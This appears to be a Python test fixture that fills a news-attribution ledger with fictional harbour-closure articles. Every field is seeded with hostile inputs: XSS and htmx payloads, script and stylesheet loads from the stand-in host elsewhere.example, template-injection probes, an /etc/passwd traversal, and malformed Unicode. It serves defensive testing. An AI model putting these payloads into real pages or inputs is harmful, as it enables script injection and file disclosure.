"""News written by an enemy: markup, scripts and addresses wherever a page shows a text, bytes that are none, and spans at odd places."""

from __future__ import annotations

from datetime import date
from pathlib import Path

from sayso import adding, ingest
from sayso.ledger import Entry, open_ledger
from sayso.model import Article, Attribution, Block, Judgement, Link, Mention, Problem, Reading, Span, Speaker, Time
from sayso.trace.sketch import bands

ATTACKS = (
    "<script>window.__owned=1</script>",
    "<script src=//elsewhere.example/x.js></script>",
    "<img src=x onerror=window.__owned=1>",
    "<img src=http://elsewhere.example/x.png>",
    "<svg onload=window.__owned=1><a href='javascript:window.__owned=1'><text y=20>port</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=window.__owned=1>#x'/></svg>",
    "</title></textarea></style></script><script>window.__owned=1</script>",
    "\"'><b onmouseover=window.__owned=1 autofocus tabindex=0 onfocus=window.__owned=1>",
    "' onclick='window.__owned=1' x='",
    '" hx-get="http://elsewhere.example/x" hx-trigger="load" x="',
    "<div hx-get='//elsewhere.example/x' hx-trigger='load' hx-on:htmx:load='window.__owned=1'>port</div>",
    "<iframe srcdoc='<script>parent.__owned=1</script>'></iframe><object data=//elsewhere.example></object><embed src=//elsewhere.example>",
    "<meta http-equiv=refresh content='0;url=http://elsewhere.example/'><base href=//elsewhere.example/>",
    "<link rel=stylesheet href=//elsewhere.example/x.css><style>body{display:none;background:url(//elsewhere.example/x)}</style>",
    "<form action=//elsewhere.example/><button formaction=javascript:window.__owned=1>On whose word?</button></form>",
    "<details open ontoggle=window.__owned=1>port</details><video><source onerror=window.__owned=1></video>",
    "javascript:window.__owned=1",
    "data:text/html,<script>window.__owned=1</script>",
    "{{ 7*7 }}{% for x in y %}{{ cycler.__init__.__globals__ }}${7*7}",
    "<!--[if IE]><![CDATA[ ]]> --!> &lt;script&gt; &#60;script&#62; &amp;quot; %3Cscript%3E",
    "\x00\x1b[31m\x9b\u202egnp.\u2066\ufeff\ufffe\x08",
    "\ud800 half \udfff",
    "../../../../etc/passwd\\..\\.. ?q=1#x&y=<b>",
    "𝕳𝖆𝖗𝖇𝖔𝖚𝖗 👩‍👩‍👧‍👦 ي\u0301\u0302 " + "e" + "\u0301" * 40,
    "unbroken" * 60,
)
"""What is tried in every place. What would run sets ``window.__owned``, and what would load asks elsewhere.example."""

CLAIM = "The harbour of Orrun was closed on Monday"
PLAIN = str.maketrans({"/": "∕", "\x00": "␀"})


def write_hostile_ledger(path: Path, folder: Path) -> None:
    """Fills a ledger with articles and judgements that hold every attack in every place, through files and by hand."""
    (folder / "files").mkdir()
    for number, attack in enumerate(ATTACKS):
        name = attack.encode("utf8", "replace").decode("utf8").translate(PLAIN)[:60]
        if number % 2:
            (folder / "files" / f"{number:02} {name}.html").write_bytes(_page(number, attack))
        else:
            (folder / "files" / f"{number:02} {name}.txt").write_bytes(_text(number, attack))
    with open_ledger(path) as ledger:
        adding.add(ledger, ingest.articles([str(folder / "files")]), engine="rules")
        for number, attack in enumerate(ATTACKS):
            reading = _by_hand(number, attack)
            ledger.add([Entry(reading, bands(reading.article.text))])
        for number, attack in enumerate(ATTACKS[:20]):
            said = attack.encode("utf8", "replace").decode("utf8").replace("\x00", "")
            ledger.judge(Judgement("", "same", said, f"Ilse {said}", by=said, when=f"2031-03-0{1 + number % 9}T10:00:00Z", why=said))
            ledger.judge(Judgement("", "different", f"h{number}:0-{len(CLAIM)}", said, about="attribution", by=said, when="2031-03-09T10:00:00Z", why=said))


def pasted() -> str:
    """One text that holds every attack."""
    return "\n\n".join(f"{CLAIM}, {attack} said. “It was closed,” said Ilse {attack}." for attack in ATTACKS)


def _page(number: int, attack: str) -> bytes:
    """A web page with the attack in its head and, as text and as markup, in its body; some bytes of it are no UTF-8."""
    words = attack.encode("utf8", "surrogatepass")
    escaped = words.replace(b"&", b"&amp;").replace(b"<", b"&lt;").replace(b'"', b"&quot;")
    return (
        b"<!doctype html><html><head><meta charset=utf-8><title>%(e)s</title><meta name=author content=\"%(e)s\">"
        b"<meta property='og:title' content=\"%(e)s\"><meta property='og:site_name' content=\"%(e)s\">"
        b"<link rel=canonical href=\"%(e)s\"><meta property='article:published_time' content='2031-03-04'></head><body><article><h1>%(e)s</h1>"
        b"<p>The harbour of Orrun was closed on Monday, said Ilse Marwick %(e)s, the harbour master, who named no reason \xff\xfe\xc3.</p>"
        b"<p>%(w)s \x80 <a href=\"%(e)s\">as %(e)s reported</a>, an official said that the harbour of Orrun was closed on Monday.</p>"
        b"<blockquote class=twitter-tweet><p>The harbour is closed %(e)s</p>&mdash; %(e)s (@%(e)s) <a href=\"%(e)s\">March 4, 2031</a></blockquote>"
        b"<p>\xe2\x80\x9cThe harbour of Orrun was closed on Monday,\xe2\x80\x9d said a person familiar with %(e)s, article %(n)d.</p></article></body></html>"
    ) % {b"e": escaped, b"w": words, b"n": number}


def _text(number: int, attack: str) -> bytes:
    """A plain text with the attack in its header and in what people say."""
    words = attack.encode("utf8", "surrogatepass").replace(b"\n", b" ")
    return (
        b"%(w)s\nBy %(w)s\nOutlet: %(w)s\nPublished: 5 March 2031\n\nThe harbour of Orrun was closed on Monday, Ilse Marwick of %(w)s said on Tuesday.\n\n"
        b"%(w)s \xff\xc3( told the Harbour Post that the harbour of Orrun was closed on Monday. Text %(n)d.\n"
    ) % {b"w": words, b"n": number}


def _by_hand(number: int, attack: str) -> Reading:
    """A reading no engine would make: the attack as every name, and spans that are empty, cross, repeat and cut characters in two."""
    text = f"{CLAIM}, said {attack} on Tuesday. 👩‍👩‍👧‍👦 {attack}\r\n\r\n{attack}\u2028The harbour was open, {attack} wrote.\n"
    end = len(text)
    claim, who = len(CLAIM), (len(CLAIM) + 7, len(CLAIM) + 7 + len(attack))
    article = Article(
        f"h{number}",
        text,
        file=attack,
        url=attack if number % 2 else f"http://news.example/{attack}",
        outlet=f"Outlet {attack}",
        title=f"Title {attack}",
        byline=(attack, f"{attack} and {attack}"),
        published=date(2031, 3, 1 + number % 9) if number % 3 else None,
        language=attack[:20],
        problems=(Problem(attack, attack),),
    )

    def span(a: int, b: int) -> Span:
        return article.span(max(0, min(a, end)), max(0, min(max(a, b), end)))

    blocks = (
        Block("paragraph", 0, claim),
        Block("post", claim, end, body=span(claim, end), author=span(*who), handle=attack, posted=span(end - 8, end), href=attack),
        Block("quote", 3, 9),
    )
    speaker = Speaker(attack, ("person", "anonymous", "outlet", "document")[number % 4], number % 4 == 1)  # type: ignore[arg-type]

    def told(id: str, content: tuple[Span, ...], source: tuple[Span, ...], *, chain: tuple[str, ...], **more: object) -> Attribution:
        return Attribution(id, content, source, speaker=speaker, chain=chain, **more)  # type: ignore[arg-type]

    attributions = (
        told("1", (span(0, claim),), (span(*who),), chain=(attack,), cue=(span(claim + 2, claim + 6),), said_on=Time(span(end - 9, end), attack)),
        told("2", (span(0, 0), span(5, 9), span(7, 30)), (span(6, 8),), chain=(attack, "Ilse", attack), parent="1", stance="denies"),
        told("3", (span(0, end),), (), chain=(), stance="unverified"),
        told("4", (span(claim + 1, claim + 3 + len(attack)),), (span(2, 4), span(end - 2, end)), chain=(attack,) * 4, parent="3", voice="embedded"),
        told("5", (span(end, end),), (span(end, end),), chain=(attack,), stance="hedges"),
        told(attack or "6", (span(end - 20, end - 1),), (span(*who),), chain=(attack,), by=attack),
    )
    links = (Link(span(*who), attack), Link(span(0, claim), "javascript:window.__owned=1"), Link(span(3, 20), "HTTP://elsewhere.example/\" onclick=\"window.__owned=1"))
    return Reading(
        Article(article.id, text, article.file, article.url, article.outlet, article.title, article.byline, article.published, article.language, blocks, links, article.problems),
        attributions,
        mentions=(Mention(span(*who), "organisation", attack),),
        times=(Time(span(end - 9, end), attack),),
        aliases=((attack, f"Ilse {attack}", attack.upper()),),
        problems=(Problem(attack, attack),),
        by=f"hand@{attack}",
    )
